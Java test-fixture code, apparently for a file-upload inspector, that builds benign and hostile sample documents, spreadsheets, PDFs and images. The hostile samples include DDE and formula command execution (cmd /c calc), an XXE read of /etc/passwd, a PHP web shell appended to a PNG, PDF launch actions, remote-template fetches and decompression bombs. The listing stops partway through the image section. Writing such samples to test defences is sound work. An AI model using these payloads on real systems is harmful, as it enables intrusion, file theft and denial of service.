package portero.adapters.inspection;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static portero.adapters.inspection.Sample.joined;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts.FontName;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionFactory;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import portero.domain.files.Attachment;

/** Files of every sort, by the name that {@code docs/hostile-files.md} gives them. */
final class Samples {
    private static final byte[] EXE = exe();
    private static final String RELATIONSHIP =
            "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\""
                    + " Target=\"%s\" TargetMode=\"%s\"/></Relationships>";

    private final Map<String, Sample> samples = new LinkedHashMap<>();

    private Samples() {}

    static Map<String, Sample> all() throws IOException {
        var made = new Samples();
        made.good();
        made.pretending();
        made.sizes();
        made.pdfs();
        made.officeFiles();
        made.oldOfficeFiles();
        made.pictures();
        return made.samples;
    }

    private void add(String description, String name, byte[] content) {
        add(description, Sample.of(name, content));
    }

    private void add(String description, Sample sample) {
        if (samples.put(description, sample) != null) {
            throw new IllegalArgumentException("Twice: " + description);
        }
    }

    // ------------------------------------------------------------------------------------------------ good ones

    private void good() throws IOException {
        add("a letter of one page", "oficio.pdf", pdf());
        add("a PDF with a link to a page of the web and a place to open at", "enlace.pdf", pdf(Samples::linked));
        add("a PDF that may be read, but not printed", "solo-lectura.pdf", lockedPdf(""));
        add("a document of Word 97", "carta.doc", doc("Buenos días"));
        add("a document of Word", "informe.docx", docx());
        add("a document of Word with a link to a page of the web", "enlace.docx", linkedDocx("https://www.gob.pe/"));
        add("a workbook of Excel 97", "nomina.xls", xls());
        add("a workbook of Excel with formulas", "nomina.xlsx", xlsx());
        add("a workbook of Excel with twenty thousand lines", "registro.xlsx", longXlsx());
        add("a photo", "foto.jpg", picture("jpg"));
        add("a photo whose name ends in capitals", "FOTO.JPEG", picture("jpg"));
        add("a photo with more of the camera's data after its end", "movimiento.jpg", joined(picture("jpg"), noise(4096)));
        add("a screenshot", "pantalla.png", picture("png"));
        add("a drawing", "croquis.bmp", picture("bmp"));
    }

    // ------------------------------------------------------------------------------------------------ other names

    private void pretending() throws IOException {
        add("a program called a photo", "foto.jpg", EXE);
        add("a page of HTML called a PDF", "oficio.pdf", "<!DOCTYPE html><html><script>alert(1)</script></html>".getBytes(UTF_8));
        add("a page of HTML that goes on as a PDF", "oficio.pdf", joined("<html><script>alert(1)</script>".getBytes(UTF_8), pdf()));
        add("an SVG with a script called a drawing", "croquis.png",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".getBytes(UTF_8));
        add("an archive called a document", "informe.docx", Zips.zip(Map.of("leame.txt", "hola".getBytes(UTF_8))));
        add("a Java program called a workbook", "nomina.xlsx", Zips.zip(Map.of("META-INF/MANIFEST.MF", "Main-Class: A\n".getBytes(UTF_8))));
        add("a presentation called a document", "informe.docx", pptx());
        add("RTF called a document", "carta.doc", "{\\rtf1\\ansi{\\object\\objemb}}".getBytes(UTF_8));
        add("a script of Windows called a PDF", "oficio.pdf", "@echo off\r\nstart calc.exe\r\n".getBytes(UTF_8));
        add("the test file of virus scanners called a PDF", "oficio.pdf",
                "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*".getBytes(UTF_8));
        add("an installer of Windows called a document", "carta.doc", ole(files -> files.createDocument(
                new ByteArrayInputStream(noise(5000)), "!_Tables")));
        add("a photo called a drawing", "croquis.png", picture("jpg"));
        add("a workbook called a document", "informe.docx", xlsx());
        add("a document called by its name of before 2007", "carta.doc", docx());
        add("a PDF called a photo", "foto.jpg", pdf());
    }

    // ------------------------------------------------------------------------------------------------ sizes and hashes

    private void sizes() throws IOException {
        var photo = picture("jpg");
        var largest = Attachment.LARGEST;
        add("a photo of exactly 5 MiB", "foto.jpg", joined(photo, new byte[largest - photo.length]));
        add("more bytes than announced", Sample.of("foto.jpg", photo).announcedAs(photo.length - 1));
        add("fewer bytes than announced", Sample.of("foto.jpg", photo).announcedAs(photo.length + 1));
        add("one byte more than 5 MiB, announced as 5 MiB",
                Sample.of("foto.jpg", joined(photo, new byte[largest + 1 - photo.length])).announcedAs(largest));
        add("nothing at all, announced as one byte", Sample.of("oficio.pdf", new byte[0]).announcedAs(1));
        add("other bytes than announced", Sample.of("foto.jpg", photo).announcedAs(noise(photo.length)));
        add("one byte", "oficio.pdf", new byte[] {'%'});
        add("nothing but zeros", "croquis.bmp", new byte[100_000]);
        add("noise", "foto.jpg", noise(100_000));
    }

    // ------------------------------------------------------------------------------------------------ PDF

    private interface PdfChange {
        void on(PDDocument document, PDPage page) throws IOException;
    }

    private static byte[] pdf() throws IOException {
        return pdf((_, _) -> {});
    }

    private static byte[] pdf(PdfChange change) throws IOException {
        try (var document = new PDDocument()) {
            var page = new PDPage();
            document.addPage(page);
            try (var text = new PDPageContentStream(document, page)) {
                text.beginText();
                text.setFont(new PDType1Font(FontName.HELVETICA), 12);
                text.newLineAtOffset(72, 700);
                text.showText("No puedo asignar el rol");
                text.endText();
            }
            change.on(document, page);
            return bytes(document);
        }
    }

    private static byte[] bytes(PDDocument document) throws IOException {
        var bytes = new ByteArrayOutputStream();
        document.save(bytes);
        return bytes.toByteArray();
    }

    private static void linked(PDDocument document, PDPage page) throws IOException {
        var uri = new PDActionURI();
        uri.setURI("https://www.gob.pe/");
        addLink(page, uri);
        var place = new PDPageFitDestination();
        place.setPage(page);
        var open = new PDActionGoTo();
        open.setDestination(place);
        document.getDocumentCatalog().setOpenAction(open);
    }

    private static void addLink(PDPage page, PDAction action) throws IOException {
        var link = new PDAnnotationLink();
        link.setAction(action);
        page.getAnnotations().add(link);
        var annotations = new COSArray();
        annotations.add(link.getCOSObject());
        page.getCOSObject().setItem(COSName.ANNOTS, annotations);
    }

    private static PdfChange action(String kind, String key, String value) {
        return (_, page) -> {
            var action = new COSDictionary();
            action.setName(COSName.S, kind);
            action.setString(key, value);
            addLink(page, PDActionFactory.createAction(action) instanceof PDAction known ? known : unknown(action));
        };
    }

    private static PDAction unknown(COSDictionary action) {
        return new PDAction(action) {};
    }

    private static byte[] lockedPdf(String password) throws IOException {
        try (var document = new PDDocument()) {
            document.addPage(new PDPage());
            var permission = new AccessPermission();
            permission.setCanPrint(false);
            var policy = new StandardProtectionPolicy("owner", password, permission);
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
            return bytes(document);
        }
    }

    private void pdfs() throws IOException {
        add("a PDF that runs a script when it opens", "oficio.pdf", pdf((document, _) ->
                document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))));
        add("a PDF with a script that nothing refers to", "oficio.pdf", pdf((document, _) -> {
            var orphan = new COSDictionary();
            orphan.setString("JS", "app.alert(1)");
            var hidden = new COSDictionary();
            hidden.setItem("PieceInfo", orphan);
            document.getDocumentCatalog().getCOSObject().setItem("PieceInfo", hidden);
        }));
        add("a PDF that runs a script when a page is shown", "oficio.pdf", pdf((_, page) -> {
            var additional = new COSDictionary();
            additional.setItem(COSName.O, new PDActionJavaScript("app.alert(1)").getCOSObject());
            page.getCOSObject().setItem(COSName.AA, additional);
        }));
        add("a PDF that starts a program", "oficio.pdf", pdf(action("Launch", "F", "cmd.exe")));
        add("a PDF that sends a form", "oficio.pdf", pdf(action("SubmitForm", "F", "https://example.org/")));
        add("a PDF that reads data from elsewhere", "oficio.pdf", pdf(action("ImportData", "F", "//example.org/x.fdf")));
        add("a PDF that opens another file", "oficio.pdf", pdf(action("GoToR", "F", "//example.org/x.pdf")));
        add("a PDF that opens a file inside it", "oficio.pdf", pdf(action("GoToE", "F", "x.pdf")));
        add("a PDF with a link to a program on the machine", "oficio.pdf", pdf(action("URI", "URI", "file:///C:/Windows/calc.exe")));
        add("a PDF that opens a page of the web by itself", "oficio.pdf", pdf((document, _) -> {
            var uri = new PDActionURI();
            uri.setURI("https://example.org/");
            document.getDocumentCatalog().setOpenAction(uri);
        }));
        add("a PDF with a file inside", "oficio.pdf", pdf((document, _) -> {
            var file = new PDComplexFileSpecification();
            file.setFile("factura.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(EXE)));
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("factura.exe", file));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            document.getDocumentCatalog().setNames(names);
        }));
        add("a PDF with a form of XFA", "oficio.pdf", pdf((document, _) -> {
            var form = new PDAcroForm(document);
            form.getCOSObject().setItem("XFA", new COSString("<xdp/>"));
            document.getDocumentCatalog().setAcroForm(form);
        }));
        add("a PDF with a film", "oficio.pdf", pdf((_, page) -> {
            var film = new COSDictionary();
            film.setName(COSName.SUBTYPE, "RichMedia");
            var annotations = new COSArray();
            annotations.add(film);
            page.getCOSObject().setItem(COSName.ANNOTS, annotations);
        }));
        add("a PDF that asks for a password", "oficio.pdf", lockedPdf("secreto"));
        add("a PDF with a stream that unpacks to 600 MB", "oficio.pdf", pdf((document, page) -> {
            var stream = document.getDocument().createCOSStream();
            try (var raw = stream.createRawOutputStream()) {
                raw.write(deflated(600L << 20));
            }
            stream.setItem(COSName.FILTER, COSName.FLATE_DECODE);
            page.getCOSObject().setItem("PieceInfo", stream);
        }));
        add("a PDF with a stream that is packed twice", "oficio.pdf", pdf((document, page) -> {
            var stream = document.getDocument().createCOSStream();
            try (var raw = stream.createRawOutputStream()) {
                raw.write(deflated(deflated(100L << 20)));
            }
            var filters = new COSArray();
            filters.add(COSName.FLATE_DECODE);
            filters.add(COSName.FLATE_DECODE);
            stream.setItem(COSName.FILTER, filters);
            page.getCOSObject().setItem("PieceInfo", stream);
        }));
        add("a PDF that is cut off", "oficio.pdf", Arrays.copyOf(pdf(), pdf().length / 2));
        add("the first line of a PDF and nothing more", "oficio.pdf", "%PDF-1.7\n".getBytes(UTF_8));
        add("a PDF that goes on as an archive", "oficio.pdf", joined(pdf(), Zips.zip(Map.of("a.exe", EXE))));
        add("a PDF that goes on as a program", "oficio.pdf", joined(pdf(), EXE));
        add("a PDF of brackets in brackets", "oficio.pdf", nestedPdf());
    }

    private static byte[] nestedPdf() {
        var deep = "[".repeat(500_000) + "]".repeat(500_000);
        return ("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + deep + ">>endobj\n"
                        + "2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n"
                        + "trailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n")
                .getBytes(ISO_8859_1);
    }

    private static byte[] deflated(long zeros) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var stream = new DeflaterOutputStream(bytes, new Deflater(9))) {
            var block = new byte[1 << 20];
            for (var left = zeros; left > 0; left -= block.length) {
                stream.write(block);
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] deflated(byte[] content) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var stream = new DeflaterOutputStream(bytes, new Deflater(9))) {
            stream.write(content);
        }
        return bytes.toByteArray();
    }

    // ------------------------------------------------------------------------------------------------ Word and Excel

    private static byte[] docx() throws IOException {
        try (var document = new XWPFDocument()) {
            document.createParagraph().createRun().setText("No puedo asignar el rol");
            return bytes(document);
        }
    }

    private static byte[] linkedDocx(String target) throws IOException {
        try (var document = new XWPFDocument()) {
            document.createParagraph().createHyperlinkRun(target).setText("aquí");
            return bytes(document);
        }
    }

    private static byte[] bytes(XWPFDocument document) throws IOException {
        var bytes = new ByteArrayOutputStream();
        document.write(bytes);
        return bytes.toByteArray();
    }

    private static byte[] xlsx() throws IOException {
        try (var workbook = new XSSFWorkbook()) {
            fill(workbook, 20);
            return bytes(workbook);
        }
    }

    private static byte[] longXlsx() throws IOException {
        try (var workbook = new XSSFWorkbook()) {
            fill(workbook, 20_000);
            return bytes(workbook);
        }
    }

    private static byte[] xls() throws IOException {
        try (var workbook = new HSSFWorkbook()) {
            fill(workbook, 20);
            return bytes(workbook);
        }
    }

    private static void fill(Workbook workbook, int rows) {
        var sheet = workbook.createSheet("Docentes");
        for (var i = 0; i < rows; i++) {
            var row = sheet.createRow(i);
            row.createCell(0).setCellValue("Quispe Mamani, Rosa " + i);
            row.createCell(1).setCellValue(i);
            row.createCell(2).setCellFormula("SUM(B1:B" + (i + 1) + ")");
        }
    }

    private static byte[] bytes(Workbook workbook) throws IOException {
        var bytes = new ByteArrayOutputStream();
        workbook.write(bytes);
        return bytes.toByteArray();
    }

    private static byte[] pptx() throws IOException {
        return Zips.changed(docx(), parts -> {
            var types = new String(parts.get("[Content_Types].xml"), UTF_8);
            parts.put(
                    "[Content_Types].xml",
                    types.replace("wordprocessingml.document.main", "presentationml.presentation.main").getBytes(UTF_8));
        });
    }

    private static byte[] related(byte[] zipped, String part, String kind, String target, String mode) throws IOException {
        var parts = Zips.parts(zipped);
        var text = parts.containsKey(part)
                ? new String(parts.get(part), UTF_8)
                : "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"></Relationships>";
        // Written as an empty element where there are none.
        text = text.replaceFirst("<Relationships([^>]*)/>", "<Relationships$1></Relationships>");
        parts.put(part, text.replace("</Relationships>", RELATIONSHIP.formatted(kind, target, mode)).getBytes(UTF_8));
        return Zips.zip(parts);
    }

    private static byte[] field(String instruction) throws IOException {
        return Zips.replaced(
                docx(),
                "word/document.xml",
                "<w:p>",
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + instruction
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>");
    }

    private static byte[] formula(String formula) throws IOException {
        return Zips.replaced(xlsx(), "xl/worksheets/sheet1.xml", "SUM(B1:B1)", formula);
    }

    private void officeFiles() throws IOException {
        var word = "word/_rels/document.xml.rels";
        add("a document with macros, renamed", "informe.docx", Zips.replaced(
                Zips.with(docx(), "word/vbaProject.bin", noise(500)),
                "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml"));
        add("a document with macros that its list of types hides", "informe.docx",
                Zips.with(docx(), "word/vbaProject.bin", noise(500)));
        add("a document whose template is fetched from the web", "informe.docx", related(
                docx(), "word/_rels/settings.xml.rels", "attachedTemplate", "https://example.org/x.dotm", "External"));
        add("a document with a picture that is fetched from the web", "informe.docx",
                related(docx(), word, "image", "https://example.org/x.png", "External"));
        add("a document that links an object by a page of HTML", "informe.docx",
                related(docx(), word, "oleObject", "mhtml:https://example.org/x.html!x-usc:", "External"));
        add("a document with a link to a shared folder", "informe.docx", linkedDocx("file://///example.org/x"));
        add("a document with a link that starts a tool of Windows", "informe.docx", linkedDocx("ms-msdt:/id%20PCWDiagnostic"));
        add("a document with a packed object", "informe.docx", Zips.with(docx(), "word/embeddings/oleObject1.bin", noise(500)));
        add("a document with a workbook inside", "informe.docx", Zips.with(docx(), "word/media/image1.xlsx", xlsx()));
        add("a document with a program inside", "informe.docx", Zips.with(docx(), "word/media/image1.png", EXE));
        add("a document with a control of ActiveX", "informe.docx", Zips.with(docx(), "word/activeX/activeX1.xml", "<x/>"));
        add("a document that takes in a page of HTML", "informe.docx", related(docx(), word, "aFChunk", "x.html", "Internal"));
        add("a document that starts a program by DDE", "informe.docx",
                field("<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"));
        add("a document that hides DDE in pieces", "informe.docx", field("<w:r><w:instrText> DD</w:instrText></w:r>"
                + "<w:r><w:instrText>EAUTO cmd \"/k calc\"</w:instrText></w:r>"));
        add("a document with a field that takes in another file", "informe.docx",
                field("<w:r><w:instrText>INCLUDETEXT \"https://example.org/x.docx\"</w:instrText></w:r>"));
        add("a document with the billion laughs", "informe.docx", Zips.with(docx(), "customXml/item1.xml", laughs()));
        add("a workbook that reads a file of the machine by XXE", "nomina.xlsx", Zips.with(xlsx(), "xl/sharedStrings.xml",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><sst>&x;</sst>"));
        add("a workbook that starts a program by a formula", "nomina.xlsx", formula("cmd|'/c calc'!A0"));
        add("a workbook that sends its cells by a formula", "nomina.xlsx", formula("WEBSERVICE(CONCATENATE(A1))"));
        add("a workbook with a link of DDE", "nomina.xlsx", Zips.with(xlsx(), "xl/externalLinks/externalLink1.xml",
                "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"));
        add("a workbook with a macro sheet of Excel 4", "nomina.xlsx", Zips.with(xlsx(), "xl/macrosheets/sheet1.xml", "<xm/>"));
        add("a workbook that fetches data when it opens", "nomina.xlsx", Zips.with(xlsx(), "xl/connections.xml", "<connections/>"));
        add("a document that unpacks to 300 MB", "informe.docx", bomb(300 << 20));
        add("a document of 30 MB of one letter", "informe.docx", bomb(30 << 20));
        add("a document with ten thousand parts", "informe.docx", Zips.changed(docx(), parts -> {
            for (var i = 0; i < 10_000; i++) {
                parts.put("word/media/" + i + ".txt", new byte[0]);
            }
        }));
        add("a document of archives in archives", "informe.docx", Zips.with(docx(), "word/media/a.zip", nested()));
        add("a document with a part above its folder", "informe.docx", Zips.with(docx(), "../../autostart/x.txt", "x"));
        add("a document with a part twice", "informe.docx", twice());
        add("a document of which the directory tells otherwise than the parts", "informe.docx", renamedInDirectory());
        add("a document that goes on after its end", "informe.docx", joined(docx(), EXE));
        add("a document that asks for a password", "informe.docx", lockedDocx());
        add("a document that is cut off", "informe.docx", Arrays.copyOf(docx(), docx().length / 2));
        add("a document of elements in elements", "informe.docx",
                Zips.with(docx(), "customXml/item1.xml", "<a>".repeat(100_000) + "</a>".repeat(100_000)));
        add("a document with broken XML", "informe.docx", Zips.with(docx(), "word/styles.xml", "<a><b></a>"));
    }

    private static byte[] bomb(int size) throws IOException {
        return Zips.with(docx(), "word/media/image1.txt", new byte[size]);
    }

    private static byte[] nested() throws IOException {
        var inner = Zips.zip(Map.of("0.txt", new byte[1 << 20]));
        for (var depth = 0; depth < 4; depth++) {
            var parts = new LinkedHashMap<String, byte[]>();
            for (var i = 0; i < 4; i++) {
                parts.put(i + ".zip", inner);
            }
            inner = Zips.zip(parts);
        }
        return inner;
    }

    private static String laughs() {
        var entities = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ja\">");
        for (var i = 1; i < 30; i++) {
            entities.append("<!ENTITY l%d \"%s\">".formatted(i, "&l%d;".formatted(i - 1).repeat(10)));
        }
        return entities + "]><a>&l29;</a>";
    }

    private static byte[] twice() throws IOException {
        var zipped = Zips.with(docx(), "word/document.xmk", "<a/>");
        return new String(zipped, ISO_8859_1).replace("word/document.xmk", "word/document.xml").getBytes(ISO_8859_1);
    }

    private static byte[] renamedInDirectory() throws IOException {
        var zipped = new String(Zips.with(docx(), "word/media/x.txt", "x"), ISO_8859_1);
        var last = zipped.lastIndexOf("word/media/x.txt");
        return (zipped.substring(0, last) + "word/media/y.txt" + zipped.substring(last + 16)).getBytes(ISO_8859_1);
    }

    private static byte[] lockedDocx() throws IOException {
        try (var files = new POIFSFileSystem()) {
            var encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("secreto");
            try (var stream = encryptor.getDataStream(files)) {
                stream.write(docx());
            } catch (java.security.GeneralSecurityException impossible) {
                throw new IOException(impossible);
            }
            return bytes(files);
        }
    }

    // ------------------------------------------------------------------------------------------------ until 2003

    private interface OleChange {
        void on(POIFSFileSystem files) throws IOException;
    }

    private static byte[] ole(OleChange change) throws IOException {
        try (var files = new POIFSFileSystem()) {
            change.on(files);
            return bytes(files);
        }
    }

    private static byte[] changed(byte[] ole, OleChange change) throws IOException {
        try (var files = new POIFSFileSystem(new ByteArrayInputStream(ole))) {
            change.on(files);
            return bytes(files);
        }
    }

    private static byte[] bytes(POIFSFileSystem files) throws IOException {
        var bytes = new ByteArrayOutputStream();
        files.writeFilesystem(bytes);
        return bytes.toByteArray();
    }

    private static byte[] doc(String text) throws IOException {
        return doc(text, 0, "Normal.dotm");
    }

    /** A header as MS-DOC has it, text, and the names of related files. */
    private static byte[] doc(String text, int flags, String template) throws IOException {
        var names = template.getBytes(UTF_16LE);
        var header = ByteBuffer.allocate(0x600).order(ByteOrder.LITTLE_ENDIAN);
        header.putShort(0, (short) 0xA5EC).putShort(2, (short) 0xC1).putShort(0x0A, (short) (0x0200 | flags));
        header.putInt(0x19A, 0).putInt(0x19E, names.length);
        return ole(files -> {
            files.createDocument(new ByteArrayInputStream(joined(header.array(), text.getBytes(ISO_8859_1), new byte[4096])), "WordDocument");
            files.createDocument(new ByteArrayInputStream(joined(names, new byte[4096])), "1Table");
        });
    }

    private static byte[] patchedXls(byte[] found, int offset, int value) throws IOException {
        var xls = xls();
        var at = Bytes.find(xls, 0, found);
        if (at < 0) {
            throw new IllegalArgumentException("Not found");
        }
        xls[at + offset] = (byte) value;
        return xls;
    }

    private static byte[] lockedXls() throws IOException {
        Biff8EncryptionKey.setCurrentUserPassword("secreto");
        try {
            return xls();
        } finally {
            Biff8EncryptionKey.setCurrentUserPassword(null);
        }
    }

    private void oldOfficeFiles() throws IOException {
        add("a document of Word 97 with macros", "carta.doc", changed(doc("x"), files ->
                files.getRoot().createDirectory("Macros").createDirectory("VBA").createDocument("dir", new ByteArrayInputStream(noise(5000)))));
        add("a document of Word 97 with a packed program", "carta.doc", changed(doc("x"), files -> files.getRoot()
                .createDirectory("ObjectPool")
                .createDirectory("_1234567890")
                .createDocument("\u0001Ole10Native", new ByteArrayInputStream(EXE))));
        add("a document of Word 97 that starts a program by DDE", "carta.doc", doc("\u0013 DDEAUTO cmd \"/k calc\" \u0014\u0015"));
        add("a document of Word 97 whose template is fetched from the web", "carta.doc", doc("x", 0, "https://example.org/x.dot"));
        add("a document of Word 97 that asks for a password", "carta.doc", doc("x", 0x0100, "Normal.dotm"));
        add("a document of Word 97 without a header", "carta.doc", ole(files ->
                files.createDocument(new ByteArrayInputStream(new byte[5000]), "WordDocument")));
        add("a document of Word 97 that is cut off", "carta.doc", Arrays.copyOf(doc("x"), 1000));
        add("a workbook of Excel 97 with macros", "nomina.xls", changed(xls(), files -> files.getRoot()
                .createDirectory("_VBA_PROJECT_CUR")
                .createDocument("PROJECT", new ByteArrayInputStream(noise(5000)))));
        // BOUNDSHEET of a sheet with a name of eight letters: its kind is the sixth byte of what follows.
        add("a workbook of Excel 97 with a macro sheet of Excel 4", "nomina.xls",
                patchedXls(new byte[] {(byte) 0x85, 0, 16, 0}, 4 + 5, 1));
        add("a workbook of Excel 97 with an object", "nomina.xls", changed(xls(), files -> files.getRoot()
                .createDirectory("MBD0001A2B3")
                .createDocument("CONTENTS", new ByteArrayInputStream(noise(5000)))));
        add("a workbook of Excel 97 that asks for a password", "nomina.xls", lockedXls());
        add("a workbook of Excel 97 that starts a program by DDE", "nomina.xls", ddeXls());
        add("a workbook of Excel 97 that is cut off", "nomina.xls", Arrays.copyOf(xls(), xls().length / 2));
    }

    /** A record SUPBOOK that names a program and a topic, before the end of the workbook's own records. */
    private static byte[] ddeXls() throws IOException {
        try (var files = new POIFSFileSystem(new ByteArrayInputStream(xls()))) {
            byte[] stream;
            try (var in = files.createDocumentInputStream("Workbook")) {
                stream = in.readAllBytes();
            }
            var name = "cmd\u0003/c calc".getBytes(ISO_8859_1);
            var record = ByteBuffer.allocate(4 + 5 + name.length).order(ByteOrder.LITTLE_ENDIAN);
            record.putShort((short) 0x01AE).putShort((short) (5 + name.length));
            record.putShort((short) 0).putShort((short) name.length).put((byte) 0).put(name);
            var first = 4 + Bytes.u16Little(stream, 2);
            var changed = joined(Arrays.copyOf(stream, first), record.array(), Arrays.copyOfRange(stream, first, stream.length));
            files.createOrUpdateDocument(new ByteArrayInputStream(changed), "Workbook");
            return bytes(files);
        }
    }

    // ------------------------------------------------------------------------------------------------ pictures

    private static byte[] picture(String format) throws IOException {
        var picture = new BufferedImage(320, 200, BufferedImage.TYPE_INT_RGB);
        var graphics = picture.createGraphics();
        graphics.setColor(Color.ORANGE);
        graphics.fillOval(40, 20, 200, 150);
        graphics.dispose();
        var bytes = new ByteArrayOutputStream();
        if (!ImageIO.write(picture, format, bytes)) {
            throw new IOException("Nothing writes " + format);
        }
        return bytes.toByteArray();
    }

    private static byte[] chunk(String type, byte[] data) {
        var sum = new CRC32();
        sum.update(type.getBytes(ISO_8859_1));
        sum.update(data);
        return joined(
                ByteBuffer.allocate(4).putInt(data.length).array(),
                type.getBytes(ISO_8859_1),
                data,
                ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
    }

    private static byte[] png(int width, int height, byte[] data, byte[]... more) {
        var header = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2).array();
        return joined(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'},
                chunk("IHDR", header),
                joined(more),
                chunk("IDAT", data),
                chunk("IEND", new byte[0]));
    }

    private static byte[] bmp(int width, int height) {
        var bytes = ByteBuffer.allocate(200).order(ByteOrder.LITTLE_ENDIAN);
        bytes.put((byte) 'B').put((byte) 'M').putInt(200).putInt(0).putInt(54);
        bytes.putInt(40).putInt(width).putInt(height).putShort((short) 1).putShort((short) 24);
        return bytes.array();
    }

    private static byte[] hugeJpg() throws IOException {
        var photo = picture("jpg");
        var frame = Bytes.find(photo, 0, (byte) 0xFF, (byte) 0xC0);
        ByteBuffer.wrap(photo).putShort(frame + 5, (short) 60_000).putShort(frame + 7, (short) 60_000);
        return photo;
    }

    private void pictures() throws IOException {
        var photo = picture("jpg");
        var screenshot = picture("png");
        var drawing = picture("bmp");
        var archive = Zips.zip(Map.of("a.exe", EXE));
        var page = "<html><script>alert(1)</script></html>".getBytes(UTF_8);
        add("a photo of 60 000 by 60 000", "foto.jpg", hugeJpg());
        add("a screenshot of 100 000 by 100 000", "pantalla.png", png(100_000, 100_000, deflated(1 << 20)));
        add("a drawing of 30 000 by 30 000", "croquis.bmp", bmp(30_000, 30_000));
        add("a screenshot with more in it than it shows", "pantalla.png", png(100, 100, deflated(200L << 20)));
        add("a screenshot with a text that unpacks to 100 MB", "pantalla.png", png(
                100, 100, deflated(1 << 20), chunk("zTXt", joined("a\0\0".getBytes(ISO_8859_1), deflated(100L << 20)))));
        add("a photo that goes on as an archive", "foto.jpg", joined(photo, archive));
        add("a photo that goes on as a page of HTML", "foto.jpg", joined(photo, page));
        add("a screenshot that goes on as a program", "pantalla.png", joined(screenshot, EXE));
        add("a screenshot that goes on as a script of PHP", "pantalla.png", joined(screenshot, "<?php system($_GET[0]);".getBytes(UTF_8)));
        add("a drawing that goes on as an archive", "croquis.bmp", joined(drawing, archive));
        add("a photo with an archive in its comment", "foto.jpg", joined(
                Arrays.copyOf(photo, 2),
                new byte[] {(byte) 0xFF, (byte) 0xFE},
                ByteBuffer.allocate(2).putShort((short) (archive.length + 2)).array(),
                archive,
                Arrays.copyOfRange(photo, 2, photo.length)));
        add("a photo that is cut off", "foto.jpg", Arrays.copyOf(photo, photo.length / 2));
        add("a screenshot that is cut off", "pantalla.png", Arrays.copyOf(screenshot, screenshot.length / 2));
        add("a screenshot with a wrong sum", "pantalla.png", flipped(screenshot, screenshot.length / 2));
        add("a drawing that is cut off", "croquis.bmp", Arrays.copyOf(drawing, drawing.length / 2));
        add("a drawing that tells of more than there is", "croquis.bmp", bmp(2000, 2000));
